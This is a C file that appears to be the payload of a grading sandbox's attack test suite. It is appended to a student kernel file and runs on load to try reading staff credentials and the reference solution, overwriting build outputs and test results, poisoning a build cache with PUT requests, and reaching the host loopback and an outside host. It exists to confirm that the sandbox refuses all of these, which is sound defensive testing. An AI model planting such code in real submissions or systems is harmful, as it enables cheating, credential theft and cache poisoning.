
/*
 * The attack suite's payload (grading/attack/attack_suite.sh appends it to a
 * submission's kernel/mm/vm.c, with the @NAME@ placeholders filled in).
 *
 * Student code runs inside the test binaries that grade it: this is what a
 * hostile student could put in a student file. On the host (the GoogleTest
 * binaries; the kernel's own build has no __linux__), before any test runs,
 * it tries to reach everything the grading sandbox must keep from it, and
 * to show that the submission's own .bazelrc was read, and prints one line
 * per attempt to the test's log:
 *     attack: <what>: refused (<why>)      or
 *     attack: <what>: SUCCEEDED (<how>)
 * The suite requires every attempt to be there, and refused.
 */
#if defined(__linux__)
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static void attack_report(const char *what, int refused, const char *why)
{
    fprintf(stderr, "attack: %s: %s (%s)\n", what, refused ? "refused" : "SUCCEEDED", why);
}

static void attack_read(const char *what, const char *path)
{
    char buf[64];
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        attack_report(what, 1, strerror(errno));
        return;
    }
    ssize_t n = read(fd, buf, sizeof(buf));
    close(fd);
    attack_report(what, n <= 0, n > 0 ? "read it" : "nothing to read");
}

static void attack_create(const char *what, const char *path)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) {
        attack_report(what, 1, strerror(errno));
        return;
    }
    ssize_t n = write(fd, "poison", 6);
    close(fd);
    attack_report(what, n != 6, "wrote it");
}

/* PUT "poison" on a connected socket; a 2xx answer is a stored write. */
static void attack_put(const char *what, int fd, const char *path)
{
    char request[512];
    char answer[128] = {0};
    int length = snprintf(request, sizeof(request),
                          "PUT %s HTTP/1.1\r\nHost: cache\r\nContent-Length: 6\r\n"
                          "Connection: close\r\n\r\npoison",
                          path);
    if (write(fd, request, (size_t)length) != length) {
        attack_report(what, 1, strerror(errno));
        close(fd);
        return;
    }
    ssize_t n = read(fd, answer, sizeof(answer) - 1);
    close(fd);
    if (n <= 0) {
        attack_report(what, 1, "no answer");
        return;
    }
    answer[strcspn(answer, "\r\n")] = '\0';
    attack_report(what, strncmp(answer, "HTTP/1.1 2", 10) != 0, answer);
}

/* Connects fd to peer, then PUTs there (attack_put). */
static void attack_put_to(const char *what, int fd, const struct sockaddr *peer, socklen_t size,
                          const char *path)
{
    if (fd < 0 || connect(fd, peer, size) < 0) {
        attack_report(what, 1, strerror(errno));
        if (fd >= 0)
            close(fd);
        return;
    }
    attack_put(what, fd, path);
}

static void attack_put_tcp(const char *what, const char *address, int port, const char *path)
{
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    inet_pton(AF_INET, address, &peer.sin_addr);
    attack_put_to(what, socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&peer, sizeof(peer),
                  path);
}

static void attack_put_unix(const char *what, const char *socket_path, const char *path)
{
    struct sockaddr_un peer = {.sun_family = AF_UNIX};
    snprintf(peer.sun_path, sizeof(peer.sun_path), "%s", socket_path);
    attack_put_to(what, socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&peer, sizeof(peer),
                  path);
}

/* A connection accepted at all is a success: the listener is the grading
 * host's, on its loopback, which the sandbox must not share. */
static void attack_connect(const char *what, const char *address, int port)
{
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, address, &peer.sin_addr);
    if (fd < 0 || connect(fd, (struct sockaddr *)&peer, sizeof(peer)) < 0) {
        attack_report(what, 1, strerror(errno));
    } else {
        attack_report(what, 0, "connected");
    }
    if (fd >= 0)
        close(fd);
}

/* The submission's .bazelrc defines OSV_ATTACK_RC for compiles and puts it
 * in the tests' environment: either showing here means Bazel read it. */
static void attack_rc_read(const char *what)
{
#if defined(OSV_ATTACK_RC)
    attack_report(what, 0, "compiled with its --copt");
#else
    const char *env = getenv("OSV_ATTACK_RC");
    attack_report(what, env == NULL,
                  env ? "its --test_env is set" : "neither its --copt nor its --test_env");
#endif
}

__attribute__((constructor)) static void attack(void)
{
    attack_rc_read("have the submission's .bazelrc read");
    attack_read("read a world-readable file outside the sandbox", "@CANARY@");
    attack_connect("connect to a listener on the grading host's loopback", "127.0.0.1",
                   ATTACK_LISTENER_PORT);
    attack_read("read the staff credentials", "@CACHE_STATE@/staff-credentials");
    attack_read("read staff's tree (the reference solution)", "@STAFF_TREE@/kernel/mm/vm.c");
    attack_create("write into the cache's storage", "@CACHE_STATE@/storage/ac/@KEY@");
    attack_create("write outside the sandbox", "@ESCAPE@");
    attack_create("write into the graded workspace", "/grade/workspace/kernel/mm/vm.c");
    attack_create("overwrite a built library in Bazel's output (this very vm.c's)",
                  "/grade/out/base/execroot/osv/bazel-out/k8-fastbuild/bin/kernel/mm/libvm.a");
    attack_create("overwrite another test's result",
                  "/grade/out/base/execroot/osv/bazel-out/k8-fastbuild/testlogs/kernel/"
                  "boot_qemu_test/test.xml");
    attack_put_tcp("PUT to the cache's /rw/", "127.0.0.1", 9090, "/rw/ac/@KEY@");
    attack_put_tcp("PUT to the cache's /ro/", "127.0.0.1", 9090, "/ro/ac/@KEY@");
    attack_put_unix("PUT to /ro/ through the cache's socket", "@CACHE_STATE@/ro.sock",
                    "/ro/ac/@KEY@");
    attack_put_tcp("reach another host", "192.0.2.1", 80, "/ac/@KEY@");
}
#endif
